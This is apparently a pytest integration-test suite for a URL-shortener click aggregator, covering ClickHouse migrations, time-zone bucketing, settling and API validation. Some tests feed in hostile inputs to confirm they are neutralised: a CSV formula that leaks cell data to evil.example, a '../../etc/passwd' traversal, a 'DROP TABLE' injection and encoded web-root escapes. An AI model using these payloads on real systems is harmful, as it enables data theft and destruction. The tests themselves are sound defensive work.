"""The aggregator with a real ClickHouse engine and a real Redis."""
import csv
import hashlib
import io
import itertools
import random
import time

import pytest
import requests

from support.asking import (FROM, TO, aggregator, ask,  # noqa: F401
                            ask_range, settled)
from support.clicks import (DIMENSIONS, VISITED, counted, counted_group,
                            expected_data, expected_link_counts, hours_events,
                            instant, is_human, link_counts, make_click, rfc3339,
                            some_clicks, starts)
from support.program import eventually, migrate

# These windows contain changes of the clocks: Lord Howe's of half an hour, and Berlin's
# and New York's to winter time.
WINDOWS = [(instant("2026-10-03T14:00:00Z"), instant("2026-10-03T17:00:00Z")),
           (instant("2026-10-24T22:00:00Z"), instant("2026-10-25T03:00:00Z")),
           (instant("2026-11-01T04:00:00Z"), instant("2026-11-01T08:00:00Z"))]
ZONES = ["UTC", "Europe/Berlin", "America/New_York", "Asia/Kolkata",
         "Asia/Kathmandu", "Australia/Lord_Howe"]


def assert_data(answer, expected):
    assert [{**item, "start": instant(item["start"])}
            for item in answer["data"]] == expected


# --- migrations ------------------------------------------------------------------

def test_migrating_twice_changes_nothing(clickhouse, program):
    migrate(program)
    before = clickhouse.rows("SELECT * FROM schema_migrations ORDER BY name")
    assert {"clicks", "links", "ingest_progress", "stats_hourly", "settled",
            "link_slots", "link_days"} <= clickhouse.tables()

    status, _ = program("aggregator", args=["migrate"], start=False).run()

    assert status == 0
    assert clickhouse.rows(
        "SELECT * FROM schema_migrations ORDER BY name") == before


@pytest.mark.parametrize("change, said", [
    ("UPDATE checksum = repeat('0', 64) WHERE name = 'links.sql'",
     "links.sql has another text there"),
    ("UPDATE name = '0001_clicks.sql' WHERE name = 'clicks.sql'",
     "0001_clicks.sql is not of this one")])
def test_a_database_of_another_build_is_refused(clickhouse, tables, program, change,
                                                said):
    clickhouse.query("CREATE OR REPLACE TABLE schema_migrations ENGINE = MergeTree "
                     "ORDER BY tuple() AS SELECT * FROM schema_migrations")
    clickhouse.query(f"ALTER TABLE schema_migrations {change}", mutations_sync=1)
    before = clickhouse.rows("SELECT * FROM schema_migrations ORDER BY name")
    for args in ["migrate"], ["migrate", "--check"], ["migrate", "--dry-run"]:
        status, output = program("aggregator", args=args, start=False).run()
        assert status == 78, output
        assert "clickhouse.database was made by another build: " + said in output
        assert "name a new one, or drop it" in output
    assert clickhouse.rows("SELECT * FROM schema_migrations ORDER BY name") == before


def test_a_dry_run_prints_and_applies_nothing(program, clickhouse):
    status, output = program("aggregator", args=["migrate", "--dry-run"],
                             start=False).run()

    assert status == 0
    assert "CREATE TABLE IF NOT EXISTS link_slots" in output
    assert clickhouse.tables() == set()


def test_missing_tables_are_said_on_readyz(program, clickhouse, redis):
    made = program("aggregator", ready=False)

    eventually(lambda: "run 'aggregator migrate'" in made.ready()[1])

    assert made.ready()[0] == 503
    program("aggregator", args=["migrate"], start=False).run()
    made.wait_ready()


# --- counting --------------------------------------------------------------------

@pytest.mark.proof
def test_a_links_clicks_are_those_counted_by_hand(aggregator, migrated):
    rows = some_clicks(1, 3000, WINDOWS)
    migrated.insert(rows)
    migrated.link("code2", 2)
    made = aggregator()
    mine = [row for row in rows if row["link_id"] == 2]

    for zone in ZONES:
        for interval in ("hour", "day", "week", "month"):
            answer = ask_range(made, code="code2", tz=zone, interval=interval)
            assert_data(answer, expected_data(mine, FROM, TO, interval, zone))
            assert answer["link_id"] == "2"
            assert answer["tz"] == zone
    for bots in ("include", "only"):
        answer = ask_range(made, link_id="2", interval="15m", bots=bots,
                           start=WINDOWS[1][0], end=WINDOWS[1][1])
        assert_data(answer, expected_data(mine, *WINDOWS[1], "15m", "UTC",
                                          bots))
    inside = [row for row in mine
              if FROM * 1000 <= row["ts_ms"] < TO * 1000]
    assert ask_range(made, link_id="2")["total"] == counted(inside)


@pytest.mark.proof
def test_settled_totals_are_those_counted_by_hand(aggregator, migrated):
    rows = some_clicks(2, 3000, WINDOWS)
    half = len(rows) // 2
    migrated.insert(rows[:half])
    migrated.insert(rows[half:])
    made = aggregator()
    settled(made, len(rows))

    for zone in ZONES:
        for interval, bots in (("hour", "exclude"), ("day", "include"),
                               ("week", "only")):
            answer = ask_range(made, tz=zone, interval=interval, bots=bots)
            # The estimate is exact for so few visitors.
            assert_data(answer, expected_data(rows, FROM, TO, interval, zone,
                                              bots))


OF_ALL_AND_OF_A_LINK = ({}, {"link_id": "1"})


@pytest.mark.proof
def test_groups_sum_up_to_the_total(aggregator, migrated):
    rows = some_clicks(3, 1500, WINDOWS[1:2])
    migrated.insert(rows)
    migrated.link("code1", 1)
    made = aggregator()
    settled(made, len(rows))

    for of, dimension in itertools.product(OF_ALL_AND_OF_A_LINK,
                                           set(DIMENSIONS) - {"tag"}):
        answer = ask_range(made, group_by=dimension, bots="include", **of)
        for count in ("clicks", "events", "humans", "bots", "prefetches"):
            assert sum(group[count] for group in answer["groups"]) == \
                answer["total"][count], (of, dimension)
        assert "rest" not in answer


def assert_groups(made, rows, dimension, of):
    groups = ask_range(made, group_by=dimension, **of)["groups"]
    assert {group["value"] for group in groups} == {row[dimension] for row in rows}
    for group in groups:
        value = group.pop("value")
        some = [row for row in rows if row[dimension] == value]
        wanted = counted(some) if of else counted_group(some, dimension)
        # Answers have visitors also for a link, and for dimensions of few values; those of
        # others are counted in rows if these are few, otherwise test_group_visitors.py.
        if not of and dimension not in VISITED:
            wanted["unique_error"] = 0
        assert group == wanted, (of, dimension, value)


@pytest.mark.proof
def test_groups_are_those_counted_by_hand(aggregator, migrated):
    rows = some_clicks(4, 1500, WINDOWS[1:2], links=(1,))
    migrated.insert(rows)
    migrated.link("code1", 1)
    made = aggregator()
    settled(made, len(rows))

    for of in OF_ALL_AND_OF_A_LINK:
        for dimension in set(DIMENSIONS) - {"tag", "link"}:
            assert_groups(made, rows, dimension, of)
        tags = ask_range(made, group_by="tag", **of)["groups"]
        assert {t["value"]: t["clicks"] for t in tags} == {
            tag: sum(is_human(row) for row in rows if tag in row["tags"])
            for tag in ("a", "b")}


def too_many_visitors(clickhouse):
    """Returns the excess of the estimate for different_visitors."""
    for count in range(600, 3000, 100):
        estimate = clickhouse.value(
            "SELECT uniqCombined(14)(cityHash64(toFixedString(substring(lower(hex("
            "SHA1(toString(number)))), 1, 20), 20))) "
            f"FROM numbers({count})")
        if estimate > count:
            return count
    raise AssertionError("every estimate is low")


def different_visitors(count):
    rng = random.Random(18)
    return [make_click(rng, WINDOWS[1][0] * 1000 + i, 1, outcome="redirected",
                       verdict="human", country="DE",
                       unique_identity=hashlib.sha1(b"%d" % i).hexdigest()[:20])
            for i in range(count)]


def test_visitors_are_no_more_than_their_clicks(aggregator, migrated,
                                                clickhouse):
    count = too_many_visitors(clickhouse)
    migrated.insert(different_visitors(count))
    made = aggregator()
    settled(made, count)

    answer = ask_range(made, interval="day", group_by="country")

    assert answer["approximate"] is True
    assert answer["unique_error"] == 0.0081
    seen = [answer["total"], *answer["data"], *answer["groups"]]
    assert [c["visitors"] for c in seen if c["clicks"]] == [count] * 3
    assert {c["visitors"] for c in seen if not c["clicks"]} == {0}


def test_an_answer_says_whether_visitors_were_counted(aggregator, migrated):
    rows = some_clicks(19, 100, WINDOWS[1:2], links=(1,))
    migrated.insert(rows)
    migrated.link("code1", 1)
    texts, tags = set(), set()
    for most, approximate, error in ((100, False, 0), (99, True, 0.0029)):
        made = aggregator(exact_rows_max=most)
        answer = ask_range(made, code="code1")
        assert answer["approximate"] is approximate
        assert answer["unique_error"] == error
        params = {"from": rfc3339(FROM), "to": rfc3339(TO), "code": "code1",
                  "format": "csv"}
        of_csv = requests.get(made.url + "/v1/clicks", params=params, timeout=60)
        again = requests.get(made.url + "/v1/clicks", params=params, timeout=60,
                             headers={"If-None-Match": of_csv.headers["ETag"]})
        assert (of_csv.status_code, again.status_code) == (200, 304)
        for one in of_csv, again:
            assert one.headers["Approximate"] == ("true" if approximate else "false")
            assert float(one.headers["Unique-Error"]) == error
        texts.add(of_csv.text)
        tags.add(of_csv.headers["ETag"])
        assert made.stop() == 0
    # The estimate for few visitors is exact, but is still marked as an estimate.
    assert len(texts) == 1 and len(tags) == 2


def test_visits_by_day_say_that_they_are_exact(aggregator, migrated):
    migrated.link("code1", 1)
    made = aggregator()
    answer = ask(made, "/v1/visit-statistics", link_id="1")
    assert answer["approximate"] is False and answer["unique_error"] == 0
    of_csv = requests.get(made.url + "/v1/visit-statistics", timeout=60,
                          params={"link_id": "1", "format": "csv"})
    assert of_csv.headers["Approximate"] == "false"
    assert float(of_csv.headers["Unique-Error"]) == 0


def test_csv_without_visitors_says_nothing_of_them(aggregator):
    answer = requests.get(aggregator().url + "/v1/reconciliation", timeout=60,
                          params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    assert "ETag" in answer.headers
    assert not {"Unique-Error", "Approximate", "Lower-Bound"} & set(answer.headers)


def test_what_a_limit_leaves_out_is_the_rest(aggregator, migrated):
    rows = some_clicks(5, 800, WINDOWS[1:2], links=range(1, 41))
    migrated.insert(rows)
    made = aggregator(values_max=7)
    settled(made, len(rows))

    answer = ask_range(made, group_by="link", limit=3)

    assert len(answer["groups"]) == 3
    for count in ("clicks", "events", "bots"):
        assert sum(group[count] for group in answer["groups"]) + \
            answer["rest"][count] == answer["total"][count]


@pytest.mark.proof
def test_counts_of_values_that_an_hour_may_have_left_out_are_lower_bounds(
        aggregator, migrated, clickhouse):
    """Each hour keeps one of three links; one day has no more links than that."""
    hour = WINDOWS[1][0] // 86400 * 86400
    rng = random.Random(26)
    rows = [make_click(rng, (hour + n * 3600) * 1000 + i, link, outcome="redirected",
                       verdict="human", owner="ann", country="DE")
            for n, links in enumerate(([1, 1, 2, 3], [2, 2, 1], [3, 3, 1]))
            for i, link in enumerate(links)]
    few = hour + 86400
    rows += [make_click(rng, few * 1000 + i, 1, outcome="redirected", verdict="human",
                        owner="ann", country="DE") for i in range(3)]
    migrated.insert(rows, append_ms=(hour + 4 * 86400) * 1000)
    made = aggregator(values_max=1, owner_rows_max=0)
    settled(made, len(rows))

    def said(start, end, path="/v1/clicks", **params):
        return ask_range(made, start, end, path=path, **params)

    def bounds(start, end):
        return [said(start, end, group_by="link")["lower_bound"],
                said(start, end, "/v1/top")["lower_bound"],
                said(start, end, "/v1/top", sort="growth")["lower_bound"]]

    def assert_bounds():
        # Each hour keeps its busiest link: 2, 2 and 2 of 4, 3 and 3.
        answer = said(hour, few, group_by="link")
        assert {g["value"]: g["clicks"] for g in answer["groups"]} == {
            "1": 2, "2": 2, "3": 2}
        assert answer["rest"]["clicks"] == 4
        assert [link["clicks"] for link in said(hour, few, "/v1/top")["links"]] == [2, 2, 2]
        assert bounds(hour, few) == [True, True, True]
        # The range before counts, too.
        assert bounds(few, few + 86400) == [False, False, True]
        assert bounds(few + 86400, few + 2 * 86400) == [False, False, False]
        # All countries are kept; without groups there is no lower bound.
        assert said(hour, few, group_by="country")["lower_bound"] is False
        assert "lower_bound" not in said(hour, few)

    assert_bounds()
    # Rows leave nothing out either.
    assert said(hour, few, group_by="link", country="DE")["lower_bound"] is False
    assert said(hour, few, "/v1/top", country="DE")["lower_bound"] is False
    for start, bound in (hour, "true"), (few, "false"):
        of_csv = requests.get(made.url + "/v1/clicks", timeout=60, params={
            "from": rfc3339(start), "to": rfc3339(start + 86400), "group_by": "link",
            "format": "csv"})
        assert of_csv.headers["Lower-Bound"] == bound

    # The same for days that are rolled up, and owners' days.
    ann = {"account": "acme", "owner": "ann"}
    eventually(lambda: {row["d"] for row in clickhouse.rows(
        "SELECT toUInt32(unit) AS d FROM settled WHERE kind = 'spanned_day'")} >= {hour, few},
        what="the days to be rolled up")
    eventually(lambda: said(hour, few, group_by="link", **ann)["lower_bound"],
               what="the owner's day to be copied")
    assert_bounds()
    assert said(hour, few, "/v1/top", **ann)["lower_bound"] is True
    for path, params in ("/v1/clicks", {"group_by": "link"}), ("/v1/top", {}):
        assert said(few, few + 86400, path, **ann, **params)["lower_bound"] is False


def test_the_busiest_links_are_listed_first(aggregator, migrated):
    rng = random.Random(6)
    rows = [make_click(rng, WINDOWS[1][0] * 1000 + i, link,
                       outcome="redirected", verdict="human")
            for link, count in ((11, 30), (12, 50), (13, 10), (0, 99))
            for i in range(count)]
    migrated.insert(rows)
    migrated.link("code12", 12, url="https://example.com/twelve")
    made = aggregator()
    settled(made, len(rows))

    links = ask(made, "/v1/top", **{"from": rfc3339(FROM), "to": rfc3339(TO),
                                    "limit": 2})["links"]

    assert [(link["code"], link["link_id"], link["clicks"], link["url"])
            for link in links] == [
        ("code12", "12", 50, "https://example.com/twelve"),
        ("code11", "11", 30, "")]


def test_csv_says_the_same_as_json(aggregator, migrated):
    rows = some_clicks(7, 500, WINDOWS[1:2], links=(1,))
    migrated.insert(rows)
    migrated.link("code1", 1)
    made = aggregator()

    for group in ({}, {"group_by": "ua_family"}):
        params = {"from": rfc3339(WINDOWS[1][0]),
                  "to": rfc3339(WINDOWS[1][1]), "code": "code1", **group}
        json = ask(made, **params)
        text = requests.get(made.url + "/v1/clicks",
                            params={**params, "format": "csv"}).text
        lines = list(csv.DictReader(io.StringIO(text, newline="")))
        key = "ua_family" if group else "start"
        expected = [{key: item.get("start", item.get("value")),
                     **{k: str(v) for k, v in item.items()
                        if k not in ("start", "value")},
                     **({"unique_error": "0"} if group else {})}
                    for item in (json["groups"] if group else json["data"])]
        assert lines == expected


def test_csv_holds_no_formula_of_a_visitor(aggregator, migrated):
    rng = random.Random(17)
    at = WINDOWS[1][0] * 1000
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    migrated.link("code1", 1)
    migrated.insert([make_click(rng, at + i, 1, outcome="redirected",
                                verdict="human", referrer_host=evil,
                                tags=["-2+3", "fine"]) for i in range(3)])
    made = aggregator()

    def values(group, **params):
        answer = requests.get(made.url + "/v1/clicks", params={
            "from": rfc3339(FROM), "to": rfc3339(TO), "code": "code1",
            "group_by": group, **params})
        return answer, [row[group] for row in csv.DictReader(
            io.StringIO(answer.text, newline=""))]

    answer, hosts = values("referrer_host", format="csv")
    assert hosts == ["'" + evil]
    assert '\r\n"\'=HYPERLINK(""http' in answer.text
    assert sorted(values("tag", format="csv")[1]) == ["'-2+3", "fine"]
    # JSON is not for spreadsheets: values are unchanged.
    assert values("referrer_host")[0].json()["groups"][0]["value"] == evil


@pytest.mark.proof
def test_a_reused_code_starts_at_zero(aggregator, migrated):
    old, new = (1 << 42) | 77, (2 << 42) | 77
    rng = random.Random(8)
    at = WINDOWS[1][0] * 1000
    migrated.link("abc", old)
    migrated.insert([make_click(rng, at + i, old, code="abc",
                                outcome="redirected", verdict="human")
                     for i in range(5)])
    made = aggregator()
    assert ask_range(made, code="abc")["total"]["clicks"] == 5

    migrated.link("abc", new, generation=2)

    assert ask_range(made, code="abc")["link_id"] == str(new)
    assert ask_range(made, code="abc")["total"]["events"] == 0
    assert ask_range(made, link_id=old)["total"]["clicks"] == 5
    migrated.insert([make_click(rng, at + 9, new, code="abc",
                                outcome="redirected", verdict="human")])
    # The clicks are of a day that was sealed meanwhile, with a later settling: until
    # then rows have them, and the sealed day does not.
    eventually(lambda: migrated.clickhouse.value(
        "SELECT count() FROM settled WHERE kind = 'hour' AND rows = 6"),
        what="the hour settled again")
    eventually(lambda: ask(made, "/v1/links/abc/summary")["clicks"] == 1)
    summary = ask(made, "/v1/links/abc/summary")
    assert summary["approximate"] is True and summary["revision"]
    assert summary["unique_error"] == 0.0029
    eventually(lambda: ask(made, "/v1/links/abc/summary")["complete_until"] ==
               ask_range(made, code="abc")["complete_until"] is not None,
               what="both to know up to when")
    assert (summary["link_id"], summary["generation"], summary["clicks"]) == \
        (str(new), 2, 1)


def test_a_former_owner_has_the_summary_of_his_link(aggregator, migrated):
    old, new = (1 << 42) | 77, (2 << 42) | 77
    rng = random.Random(8)
    at = WINDOWS[1][0] * 1000
    migrated.link("abc", old, owner="ann", url="https://ann.example/")
    migrated.link("abc", new, generation=2, owner="bob")
    migrated.insert([make_click(rng, at + i, link, code="abc",
                                outcome="redirected", verdict="human")
                     for link, clicks in ((old, 5), (new, 2))
                     for i in range(clicks)])
    made = aggregator()

    former = ask(made, "/v1/summary", link_id=old)
    assert (former["link_id"], former["owner"], former["clicks"]) == \
        (str(old), "ann", 5)
    assert former["url"] == "https://ann.example/"

    def present():
        """Every kind of question is sent; the watermark may move between two."""
        answers = [ask(made, "/v1/links/abc/summary"),
                   ask(made, "/v1/summary", code="abc"),
                   ask(made, "/v1/summary", link_id=new)]
        return answers[0] == answers[1] == answers[2] and answers[0]
    answer = eventually(present, what="three answers to be one")
    assert (answer["link_id"], answer["owner"], answer["clicks"]) == \
        (str(new), "bob", 2)


# --- settling --------------------------------------------------------------------

def test_a_restart_goes_on_where_settling_was(aggregator, migrated):
    rows = some_clicks(9, 900, WINDOWS[1:2])
    migrated.insert(rows[:300])
    made = aggregator()
    settled(made, 300)
    attempts = migrated.clickhouse.value("SELECT count() FROM settled "
                                         "WHERE kind = 'hour'")
    assert made.stop() == 0

    migrated.insert(rows[300:])
    made.start()

    settled(made, 900)
    touched = {row["ts_ms"] // 3600000 for row in rows[300:]}
    assert migrated.clickhouse.value(
        "SELECT count() FROM settled WHERE kind = 'hour'") == \
        attempts + len(touched)


@pytest.mark.proof
def test_a_block_of_a_clock_that_is_behind_is_settled(aggregator, migrated):
    rows = some_clicks(10, 200, WINDOWS[1:2])
    migrated.insert(rows[:100])
    made = aggregator()
    settled(made, 100)

    migrated.clock_ms = (time.time() - 300) * 1000
    migrated.insert(rows[100:])

    settled(made, 200)


@pytest.mark.proof
def test_a_block_told_of_too_late_is_found_by_the_recheck(aggregator,
                                                          migrated):
    rows = some_clicks(11, 200, WINDOWS[1:2])
    migrated.insert(rows[:100])
    made = aggregator(recheck_every="1s")
    settled(made, 100)

    migrated.clock_ms = (time.time() - 86400) * 1000
    migrated.insert(rows[100:])

    settled(made, 200)


@pytest.mark.proof
def test_late_clicks_settle_a_day_again(aggregator, migrated, clickhouse):
    rows = some_clicks(12, 1200, WINDOWS[:2])
    migrated.insert(rows[:1000])
    made = aggregator(resettle_every="0s")
    settled(made, 1000)
    eventually(lambda: link_counts(clickhouse) ==
               expected_link_counts(rows[:1000]), what="days settled")
    migrated.insert(rows[1000:])
    eventually(lambda: link_counts(clickhouse) == expected_link_counts(rows),
               what="days settled again")


@pytest.mark.long
def test_superseded_rows_are_deleted(clickhouse, redis, migrated, program):
    rows = some_clicks(13, 300, WINDOWS[1:2])
    made = program("aggregator", {
        "clickhouse": {"query_timeout": "2s"},
        "aggregator": {"settle_every": "500ms", "clean_every": "1s",
                       "keep_superseded": "5s",
                       "resettle_every": "0s"}})
    for i in range(0, 300, 100):
        migrated.insert(rows[i:i + 100])
        eventually(lambda n=i + 100: hours_events(clickhouse) == n)

    eventually(lambda: clickhouse.value(
        "SELECT max(n) FROM (SELECT uniqExact(attempt) AS n FROM stats_hourly "
        "GROUP BY hour)") == 1)

    eventually(lambda: clickhouse.value(
        "SELECT max(n) FROM (SELECT count() AS n FROM settled WHERE "
        "kind = 'hour' GROUP BY unit)") == 1)
    # The days are settled after the hours.
    eventually(lambda: link_counts(clickhouse) == expected_link_counts(rows))
    for table in ("link_slots", "link_days"):
        eventually(lambda t=table: clickhouse.value(
            f"SELECT uniqExact(attempt) FROM {t}") == 2)
    assert made.stop() == 0
    # The aggregator of the questions has a longer timeout.
    made = program("aggregator")
    assert ask_range(made, interval="month")["total"] == counted(rows)
    assert link_counts(clickhouse) == expected_link_counts(rows)


def test_one_of_two_aggregators_settles(aggregator, migrated):
    first, second = aggregator(lease="1s"), aggregator(lease="1s")

    def one():
        """The lease may change its holder during the check if the holder is slow."""
        owned = [made.metric("shortloop_aggregator_lease_owned")
                 for made in (first, second)]
        return {(1, 0): (first, second), (0, 1): (second, first)}.get(
            tuple(owned))
    holder, other = eventually(one, what="one that holds the lease")

    holder.kill()
    migrated.insert(some_clicks(14, 50, WINDOWS[1:2]))

    settled(other, 50)


def test_with_a_full_redis_an_aggregator_settles(clickhouse, own_redis, migrated,
                                                 program):
    """The aggregator is a new one: it has no lease to prolong."""
    own_redis.client().config_set("maxmemory", 1)
    migrated.insert(some_clicks(16, 50, WINDOWS[1:2]))

    made = program("aggregator", {"aggregator": {"settle_every": "500ms"}})

    settled(made, 50)


# --- the watermark ---------------------------------------------------------------

@pytest.mark.proof
def test_complete_until_is_the_least_of_all_partitions(aggregator, migrated):
    migrated.partitions = 2
    migrated.link("code1", 1)
    made = aggregator(edge_delay="5s")
    base = WINDOWS[1][0]
    click = make_click(random.Random(15), base * 1000, 1)
    migrated.insert([click], partition=0, append_ms=(base + 100) * 1000)
    settled(made, 1)
    assert ask_range(made)["complete_until"] is None

    migrated.report([], partition=1, append_ms=(base + 60) * 1000)

    expected = rfc3339(base + 55)
    for asked in ({"code": "code1"}, {}):
        eventually(lambda q=asked: ask_range(made, **q)["complete_until"] ==
                   expected)


@pytest.mark.proof
def test_rescored_hours_are_settled_again(aggregator, migrated, clickhouse):
    hour = WINDOWS[1][0]
    rng = random.Random(21)
    migrated.insert([make_click(rng, hour * 1000 + i, 1, outcome="redirected",
                                verdict="human") for i in range(20)])
    made = aggregator()
    settled(made, 20)
    clickhouse.query("ALTER TABLE clicks UPDATE verdict = 'bot' WHERE "
                     "offset < 5", mutations_sync=1)

    migrated.tell("rescore", {hour: 0})

    eventually(lambda: ask_range(made)["total"]["bots"] == 5,
               what="hours settled again")
    assert ask_range(made)["total"]["events"] == 20


@pytest.mark.proof
@pytest.mark.parametrize("topic", ["rescore", "import:f00", "links"])
def test_the_watermark_does_not_wait_for_others_than_clicks(
        aggregator, migrated, topic):
    base = WINDOWS[1][0]
    migrated.link("code1", 1)
    made = aggregator(edge_delay="5s")
    migrated.tell(topic, {base: 1}, rows=1, append_ms=base * 1000)
    migrated.report([], partition=0, append_ms=(base + 60) * 1000)

    for asked in ({"code": "code1"}, {}):
        eventually(lambda q=asked: ask_range(made, **q)["complete_until"] ==
                   rfc3339(base + 55), what="the watermark")


# --- questions -------------------------------------------------------------------

def assert_buckets(made, zone):
    start, end = instant("2026-01-01T00:00:00Z"), instant(
        "2028-01-01T00:00:00Z")
    for interval in ("day", "week", "month"):
        answer = ask_range(made, start, end, tz=zone, interval=interval)
        assert [instant(item["start"]) for item in answer["data"]] == starts(
            start, end, interval, zone)
    for month in (2, 3, 4, 9, 10, 11):
        low = instant(f"2026-{month:02}-01T00:00:00Z")
        high = instant(f"2026-{month + 1:02}-01T00:00:00Z")
        answer = ask_range(made, low, high, tz=zone)
        assert [instant(item["start"]) for item in answer["data"]] == starts(
            low, high, "hour", zone)


@pytest.mark.proof
def test_buckets_are_cut_as_the_standard_library_cuts_them(aggregator, subtests):
    made = aggregator()
    for zone in ("Africa/Casablanca", "America/Havana", "Africa/Cairo", "America/Nuuk",
                 "Pacific/Chatham", "Antarctica/Troll", "Europe/Dublin",
                 "Australia/Lord_Howe", "America/Santiago"):
        with subtests.test(zone=zone):
            assert_buckets(made, zone)


BAD_PARAMETERS = [
    ("/v1/clicks", {"colour": "red"}, "colour"),
    ("/v1/clicks", {"from": "yesterday"}, "from"),
    ("/v1/clicks", {"from": "2026-11-21T00:01:00Z"}, "from"),
    ("/v1/clicks", {"to": "1969-01-01T00:00:00Z"}, "to"),
    ("/v1/clicks", {"from": "2026-11-21", "to": "2026-11-20"}, "from"),
    ("/v1/clicks", {"interval": "fortnight"}, "interval"),
    ("/v1/clicks", {"tz": "Mars/Olympus"}, "tz"),
    ("/v1/clicks", {"tz": "../../etc/passwd"}, "tz"),
    ("/v1/clicks", {"group_by": "total"}, "group_by"),
    ("/v1/clicks", {"group_by": "ip; DROP TABLE clicks"}, "group_by"),
    ("/v1/clicks", {"bots": "maybe"}, "bots"),
    ("/v1/clicks", {"format": "xml"}, "format"),
    ("/v1/clicks", {"limit": "0"}, "limit"),
    ("/v1/clicks", {"limit": "99999999999999999999"}, "limit"),
    ("/v1/clicks", {"code": "a/b"}, "code"),
    ("/v1/clicks", {"link_id": "-1"}, "link_id"),
    ("/v1/clicks", {"link_id": "18446744073709551616"}, "link_id"),
    ("/v1/clicks", {"code": "a", "link_id": "1"}, "code, link_id"),
    ("/v1/clicks", {"tz": ["UTC", "UTC"]}, "tz"),
    ("/v1/clicks", {"from": "2020-01-01", "interval": "15m"}, "interval"),
    ("/v1/top", {"group_by": "country"}, "group_by"),
    ("/v1/top", {"limit": "x"}, "limit"),
    ("/v1/links/abc/summary", {"tz": "UTC"}, "tz"),
    ("/v1/links/abc/summary", {"link_id": "1"}, "link_id"),
    ("/v1/summary", {}, "code, link_id: give one"),
    ("/v1/summary", {"code": "a", "link_id": "1"}, "code, link_id: give one"),
    ("/v1/summary", {"code": "a/b"}, "code"),
    ("/v1/summary", {"code": ""}, "code"),
    ("/v1/summary", {"link_id": "0"}, "link_id"),
    ("/v1/summary", {"code": "a", "tz": "UTC"}, "tz"),
]


def test_a_bad_parameter_is_named(aggregator, subtests):
    made = aggregator()

    for path, params, says in BAD_PARAMETERS:
        with subtests.test(path=path, params=params):
            answer = requests.get(made.url + path, params=params)

            assert answer.status_code == 400
            assert answer.headers["Content-Type"] == "application/problem+json"
            assert answer.json()["detail"].startswith(says)


def test_a_plus_that_was_not_escaped_is_explained(aggregator):
    made = aggregator()

    answer = requests.get(made.url +
                          "/v1/clicks?from=2026-11-21T00:00:00+05:30")

    assert answer.status_code == 400
    assert "%2B" in answer.json()["detail"]


def test_a_bare_date_is_midnight_in_the_zone(aggregator):
    made = aggregator()

    answer = ask(made, **{"from": "2026-11-20", "to": "2026-11-21",
                          "tz": "Asia/Kolkata"})

    assert answer["from"] == "2026-11-20T00:00:00+05:30"
    assert len(answer["data"]) == 24


def test_an_unknown_code_is_a_404(aggregator):
    made = aggregator()

    for path in ("/v1/clicks?code=nobody", "/v1/clicks?link_id=9",
                 "/v1/links/nobody/summary", "/v1/summary?code=nobody",
                 "/v1/summary?link_id=9"):
        assert requests.get(made.url + path).status_code == 404


def test_an_answer_that_did_not_change_is_a_304(aggregator, migrated):
    made = aggregator()
    params = {"from": rfc3339(FROM), "to": rfc3339(TO), "interval": "month"}
    first = requests.get(made.url + "/v1/clicks", params=params)
    assert first.headers["ETag"] == f'"{first.json()["revision"]}"'

    again = requests.get(made.url + "/v1/clicks", params=params,
                         headers={"If-None-Match": first.headers["ETag"]})
    assert (again.status_code, again.content) == (304, b"")

    migrated.insert(some_clicks(16, 10, WINDOWS[1:2]))
    settled(made, 10)
    again = requests.get(made.url + "/v1/clicks", params=params,
                         headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 200


def test_only_reading_is_answered(aggregator):
    made = aggregator()

    answer = requests.post(made.url + "/v1/clicks")

    assert (answer.status_code, answer.headers["Allow"]) == (405, "GET, HEAD")


def test_the_api_describes_itself(aggregator):
    api = ask(aggregator(), "/openapi.json")

    assert set(api["paths"]) == {
        "/v1/clicks", "/v1/creations", "/v1/shares", "/v1/shares/{id}", "/v1/top",
        "/v1/pipeline", "/v1/links",
        "/v1/links/{code}/summary", "/v1/links/{code}/history", "/v1/summary",
        "/v1/visit-statistics", "/v1/export/clicks", "/v1/reclaim-runs",
        "/v1/archived-spaces", "/v1/reconciliation", "/v1/live", "/v1/me", "/v1/values",
        "/openapi.json"}


# --- servers that are down -------------------------------------------------------

def test_without_clickhouse_the_answer_is_503_and_says_why(program, redis):
    made = program("aggregator", ready=False)
    eventually(lambda: "clickhouse: Failed to connect" in made.ready()[1])

    answer = requests.get(made.url + "/v1/clicks")

    assert answer.status_code == 503
    assert int(answer.headers["Retry-After"]) > 0
    assert "ClickHouse is away" in answer.json()["detail"]
    assert "connect" not in answer.json()["detail"]
    made.wait_log("no answer")
    assert "connect" in made.log()
    assert made.stop() == 0


def test_without_redis_nothing_settles_but_answers_come(migrated, program):
    made = program("aggregator", ready=False)
    eventually(lambda: "redis:" in made.ready()[1])

    assert ask(made)["total"]["clicks"] == 0
    assert made.metric("shortloop_aggregator_lease_owned") == 0


# --- the dashboard ---------------------------------------------------------------

def test_files_outside_the_web_root_are_not_served(aggregator, tmp_path):
    root = tmp_path / "web"
    root.mkdir()
    (root / "index.html").write_text("<p>hello")
    (root / ".secret.html").write_text("no")
    (tmp_path / "outside.html").write_text("no")
    made = aggregator(web_root=str(root))

    page = requests.get(made.url + "/")
    assert page.text == "<p>hello"
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    for path in ("/../outside.html", "/%2e%2e/outside.html", "//index.html",
                 "/.secret.html", "/index.html/", "/..%2foutside.html"):
        request = requests.Request("GET", made.url).prepare()
        request.url = made.url + path
        assert requests.Session().send(request).status_code in (400, 404)
